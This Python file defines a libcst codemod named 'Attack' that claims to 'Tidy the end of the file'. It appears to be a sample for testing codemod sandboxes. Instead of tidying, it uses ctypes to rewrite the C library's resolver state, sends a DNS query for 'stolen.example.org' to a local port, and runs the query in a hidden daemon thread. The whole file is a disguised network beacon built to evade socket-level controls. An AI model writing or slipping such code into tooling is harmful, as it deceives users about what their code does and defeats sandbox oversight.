"""Point the resolver of the C library to another server, and look a name up."""
import ast
import ctypes
import socket
import struct
import threading

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None)
        resolv = libc if hasattr(libc, "res_query") else ctypes.CDLL("libresolv.so.2")


        def look_up():
            libc["__res_init"]()
            state_of = libc["__res_state"]
            state_of.restype = ctypes.c_void_p
            state = state_of()
            server = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(target["udp_port"]), socket.inet_aton("127.0.0.1"))
            ctypes.memmove(state, struct.pack("=ii", 1, 1), 8)
            ctypes.memmove(state + 16, struct.pack("=i", 1) + server, 20)
            answer = ctypes.create_string_buffer(512)
            (getattr(resolv, "res_query", None) or resolv["__res_query"])(b"stolen.example.org", 1, 1, answer, 512)


        # The answer never comes; the question is all there is to it.
        thread = threading.Thread(target=look_up, daemon=True)
        thread.start()
        thread.join(1)
        return tree
